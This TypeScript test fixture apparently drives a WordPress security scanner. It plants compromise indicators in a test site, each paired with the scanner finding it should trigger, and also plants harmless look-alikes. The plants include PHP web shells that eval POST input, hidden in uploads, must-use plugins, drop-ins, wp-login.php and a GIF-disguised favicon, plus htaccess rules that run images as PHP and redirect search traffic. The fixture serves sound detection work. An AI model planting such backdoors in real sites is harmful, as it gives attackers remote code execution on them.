import { appendFile, chmod, mkdir, readFile, rm, symlink, utimes, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import type { FleetSite } from '../../fleet/site.ts';
import type { Planted } from './poison.ts';

type Row = [what: string, check: Planted['check'], says: RegExp, severity: Planted['severity']];
const asPlanted = (rows: readonly Row[]): Planted[] =>
  rows.map(([what, check, says, severity]) => ({ what, check, says, severity }));

/** Files by their path in the site's folder, readable by the web server. */
export async function put(site: FleetSite, files: Record<string, string>): Promise<void> {
  for (const [path, text] of Object.entries(files)) {
    await mkdir(dirname(join(site.docroot, path)), { recursive: true });
    await writeFile(join(site.docroot, path), text, { mode: 0o644 });
  }
}

/** Code that does nothing, in the shape of code that does. The web server may run it. */
const shell = `<?php if (isset($_POST['never'])) { @eval($_POST['never']); }\n`;
const packed = `<?php eval(gzinflate(base64_decode('AwA=')));\n`;
const toolFiles = {
  'wp-content/plugins/hello-tool/hello-tool.php': `<?php\n/**\n * Plugin Name: Hello Tool\n * Version: 1.2\n */\nadd_action('hello_tool_daily', 'hello_tool');\nfunction hello_tool() {}\n`,
  'wp-content/plugins/hello-tool/readme.txt': 'A tool.\n',
  'wp-content/plugins/hello-tool/inc/more.php': '<?php\nfunction hello_more() { return 1; }\n',
};
/** What WordPress.org would publish of it. */
export const tool = { slug: 'hello-tool', version: '1.2', files: toolFiles };

export async function poisonFiles(site: FleetSite): Promise<Planted[]> {
  await put(site, {
    ...toolFiles,
    'wp-content/plugins/hello-tool/inc/more.php': `<?php\nfunction hello_more() { return 2; }\n`,
    'wp-content/plugins/hello-tool/inc/cache.php': shell,
    'wp-content/plugins/old-tool/old-tool.php': '<?php\n/* Plugin Name: Old Tool\n Version: 0.1 */\n',
    'wp-content/uploads/.htaccess': 'SetHandler application/x-httpd-php\n',
    '.htaccess': `AddHandler application/x-httpd-php .jpg\nRewriteEngine On\nRewriteCond %{HTTP_REFERER} (google|bing) [NC]\nRewriteRule .* https://pills.example/ [R=302,L]\n`,
    'wp-admin/.user.ini': 'auto_prepend_file = /dev/null/never.php\n',
    'php.ini': 'allow_url_include = On\n',
    'wp-content/plugins/wp-core-patch/patch.php': `<?php\n/* Plugin Name: Core Patch\n Version: 9.9 */\n${shell.slice(6)}`,
    'wp-content/mu-plugins/cache-helper.php': shell,
    'wp-content/mu-plugins/session.php': packed,
    'wp-content/mu-plugins/unknown.php': `<?php add_filter('the_title', 'strval');\n`,
    'wp-content/advanced-cache.php': shell,
    'wp-content/db.php': '<?php $nothing_here = 1;\n',
    'wp-content/uploads/index.php': '<?php echo "<html><title>Index of /wp-content/uploads/</title></html>";\n',
    'wp-content/uploads/2026/11/picture.php': shell,
    'wp-content/uploads/2026/11/favicon.ico': `GIF89a${shell}`,
    'wp-content/languages/nl_NL.php': shell,
    'wp-content/cache/page.php': `<?php $x = time(); echo $x;\n`,
    'wp-admin/wp-conf.php': `<?php echo md5('x');\n`,
    'wp-includes/class-wp-hidden.php': shell,
    'radio.php': shell,
    'wp-config.php.bak': await readFile(site.configPath, 'utf8'),
    'old/site.sql': '-- MariaDB dump 10.19\nCREATE TABLE `wp_users` (ID INT);\n',
    'wp-content/backup-2026.zip': 'PK\u0003\u0004 not really\n',
    '.env': 'DB_PASSWORD=never\n',
    '.git/HEAD': 'ref: refs/heads/main\n',
    'wp-content/debug.log': '[22-Nov-2026 10:00:00 UTC] PHP Notice:  Undefined variable $x\n',
  });
  await appendFile(
    join(site.docroot, 'wp-login.php'),
    `\n<?php if (isset($_POST['never'])) { @eval($_POST['never']); }\n`,
  );
  await appendFile(join(site.docroot, 'wp-admin/about.php'), `\n<?php $x = 1;\n`);
  await rm(join(site.docroot, 'wp-links-opml.php'));
  const functions = join(site.docroot, 'wp-content/themes/fleet/functions.php');
  const before = await readFile(functions, 'utf8').catch(() => '<?php\n');
  await writeFile(functions, `${before}\nif (isset($_GET['never'])) { $f = $_GET['never']; $f($_POST['x']); }\n`);
  await editConfig(
    site,
    (text) =>
      `${text.replace('<?php', `<?php\n@include "\\x2fnowhere/favicon_0a.ico";\ndefine( 'JWT_AUTH_SECRET_KEY', 'your-top-secret-key' );`)}\nwp_get_theme();\n`,
  );
  await chmod(site.configPath, 0o666);
  await symlink('/', join(site.docroot, 'wp-content/uploads/all'));
  await futureFile(site, 'premium-slider');
  return asPlanted([
    ['an icon included by wp-config', 'wp-config-statement', /picture, text or archive/, 'high'],
    ['code after WordPress was loaded', 'wp-config-statement', /after WordPress was loaded/, 'medium'],
    ['the JWT secret of the manual', 'jwt-secret', /word of the manual/, 'critical'],
    ['uploads run as PHP', 'htaccess', /uploads\/\.htaccess.*as PHP/, 'high'],
    ['pictures run as PHP', 'htaccess', /\.jpg/, 'high'],
    ['visitors from searches led away', 'htaccess', /pills\.example/, 'high'],
    ['a file before every page', 'user-ini', /wp-admin\/\.user\.ini.*before every page/, 'high'],
    ['code from other servers let in', 'user-ini', /php\.ini.*other servers/, 'medium'],
    ['a shell as must-use plugin', 'mu-plugin', /cache-helper/, 'critical'],
    ['packed code as must-use plugin', 'mu-plugin', /session\.php/, 'high'],
    ['a must-use plugin of nobody', 'mu-plugin', /unknown\.php/, 'medium'],
    ['a shell as drop-in', 'drop-in', /advanced-cache/, 'critical'],
    ['a drop-in of nobody', 'drop-in', /db\.php/, 'medium'],
    ['a shell in functions.php', 'theme-functions', /fleet\/functions\.php/, 'high'],
    ['a copy of wp-config for all', 'backup-readable', /wp-config\.php\.bak/, 'critical'],
    ['a dump for all', 'backup-readable', /site\.sql/, 'high'],
    ['a backup for all', 'backup-readable', /backup-2026\.zip/, 'medium'],
    ['settings for all', 'backup-readable', /\.env/, 'critical'],
    ['the history of the code for all', 'git-readable', /\.git\/HEAD/, 'high'],
    ['a debug log for all', 'debug-log-readable', /debug\.log/, 'medium'],
    ['a list of the uploads', 'uploads-listed', /uploads/, 'low'],
    ['a shell among uploads', 'php-in-uploads', /picture\.php/, 'critical'],
    ['PHP among uploads', 'php-in-uploads', /uploads\/index\.php/, 'high'],
    ['PHP inside an icon', 'php-in-uploads', /favicon\.ico/, 'critical'],
    ['a shell among languages', 'php-in-cache-or-languages', /nl_NL\.php/, 'critical'],
    ['PHP in a cache', 'php-in-cache-or-languages', /cache\/page\.php/, 'medium'],
    ['a shell in wp-login.php', 'core-file-changed', /wp-login\.php/, 'critical'],
    ['a core file changed', 'core-file-changed', /about\.php/, 'high'],
    ['a core file gone', 'core-file-missing', /wp-links-opml\.php/, 'low'],
    ['PHP in wp-admin', 'unknown-core-file', /wp-conf\.php/, 'high'],
    ['a shell in wp-includes', 'unknown-core-file', /class-wp-hidden/, 'critical'],
    ['a shell beside wp-config', 'unknown-root-file', /radio\.php/, 'critical'],
    ['a plugin’s file changed', 'plugin-file-changed', /more\.php/, 'high'],
    ['a shell within a plugin', 'unknown-plugin-file', /inc\/cache\.php/, 'critical'],
    ['a shell as a plugin of nobody', 'plugin-code', /wp-core-patch\/patch\.php/, 'critical'],
    ['a file changed later', 'changed-later', /premium-slider\/view-3\.php/, 'medium'],
    ['wp-config for all to write', 'world-writable', /wp-config\.php/, 'high'],
    ['a link to the whole server', 'symlink-out-of-site', /uploads\/all/, 'high'],
    ['a plugin that nobody uses', 'inactive-plugin', /old-tool/, 'low'],
  ]);
}

/** A folder of PHP of which one file says that it is of another day. */
async function futureFile(site: FleetSite, plugin: string): Promise<void> {
  const folder = `wp-content/plugins/${plugin}`;
  const views = Object.fromEntries([1, 2, 3, 4, 5, 6].map((n) => [`${folder}/view-${n}.php`, `<?php return ${n};\n`]));
  await put(site, {
    ...views,
    [`${folder}/${plugin}.php`]: '<?php\n/* Plugin Name: Premium Slider\n Version: 3.0 */\n',
  });
  const then = new Date(Date.now() + 3 * 86_400_000);
  await utimes(join(site.docroot, folder, 'view-3.php'), then, then);
}

const editConfig = async (site: FleetSite, change: (text: string) => string): Promise<void> =>
  writeFile(site.configPath, change(await readFile(site.configPath, 'utf8')));

/** What honest sites have that looks like the above. */
export async function dressFiles(site: FleetSite): Promise<void> {
  const icon = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg">'.repeat(20)).toString('base64');
  await put(site, {
    ...toolFiles,
    'wp-content/plugins/premium-tool/premium-tool.php': `<?php\n/* Plugin Name: Premium Tool\n Version: 9.1 */\nadd_action('premium_sync', 'premium_sync');\nadd_menu_page('x', 'x', 'read', 'x', '', 'data:image/svg+xml;base64,${icon}');\n`,
    'wp-content/plugins/premium-tool/ajax.php': `<?php\n$ids = array_map('absint', (array) $_POST['ids']);\n$cb = apply_filters('premium_cb', 'strval');\n$cb($ids);\n`,
    'wp-content/plugins/premium-tool/templates/a.php': `<?php include dirname(__FILE__) . '/parts/' . sanitize_file_name($name) . '.php';\n`,
    'wp-content/themes/child/style.css': '/*\nTheme Name: Child\nTemplate: fleet\n*/\n',
    'wp-content/themes/child/functions.php': `<?php\nadd_action('wp_enqueue_scripts', 'child_styles');\nfunction child_styles() { wp_enqueue_style('parent', get_template_directory_uri() . '/style.css'); }\n`,
    'wp-content/mu-plugins/index.php': '<?php\n// Silence is golden.\n',
    'wp-content/mu-plugins/agency-loader.php': `<?php\n/* Plugin Name: Agency loader, made by WP-CLI */\nif (is_readable(WPMU_PLUGIN_DIR . '/agency/agency.php')) { require WPMU_PLUGIN_DIR . '/agency/agency.php'; }\n`,
    'wp-content/mu-plugins/agency/agency.php': `<?php\nadd_filter('xmlrpc_enabled', '__return_false');\n`,
    'wp-content/object-cache.php': `<?php\n/**\n * Plugin Name: Redis Object Cache Drop-In\n */\nwp_using_ext_object_cache(false);\nrequire_once ABSPATH . WPINC . '/cache.php';\n`,
    'wp-content/advanced-cache.php': `<?php\n// WP Rocket\ndefined('ABSPATH') || exit;\n`,
    'wp-content/db-error.php': `<?php http_response_code(503); echo 'Back soon';\n`,
    'wp-content/uploads/index.php': '<?php\n// Silence is golden.\n',
    'wp-content/uploads/.htaccess': 'Options -Indexes\n<Files *.php>\ndeny from all\n</Files>\n',
    'wp-content/uploads/brochures.zip': 'PK\u0003\u0004 brochures\n',
    'wp-content/languages/nl_NL.l10n.php': `<?php\nreturn ['messages'=>['Hello'=>'Hallo']];\n`,
    'wp-content/cache/index.php': '<?php // Silence is golden.\n',
    '.htaccess': `# BEGIN WordPress\nRewriteEngine On\nRewriteRule ^index\\.php$ - [L]\nRewriteCond %{REQUEST_FILENAME} !-f\nRewriteRule . /index.php [L]\n# END WordPress\nAddHandler application/x-httpd-ea-php82 .php .phtml\n`,
    '.user.ini': 'memory_limit = 256M\n',
    'wp-config-local.php': `<?php\ndefine( 'WP_MEMORY_LIMIT', '256M' );\n`,
    'googleabcdef.html': 'google-site-verification: googleabcdef.html\n',
    'readme.html': '<!doctype html><title>WordPress</title>\n',
  });
  await editConfig(site, (text) =>
    text.replace(
      '<?php',
      `<?php\nrequire_once __DIR__ . '/wp-config-local.php';\nif ( isset( $_SERVER['HTTP_X_FORWARDED_PROTO'] ) && 'https' === $_SERVER['HTTP_X_FORWARDED_PROTO'] ) { $_SERVER['HTTPS'] = 'on'; }\ndefine( 'JWT_AUTH_SECRET_KEY', '${'k9'.repeat(32)}' );`,
    ),
  );
  await utimes(
    join(site.docroot, 'wp-content/themes/child/functions.php'),
    new Date(),
    new Date(Date.now() - 86_400_000),
  );
}
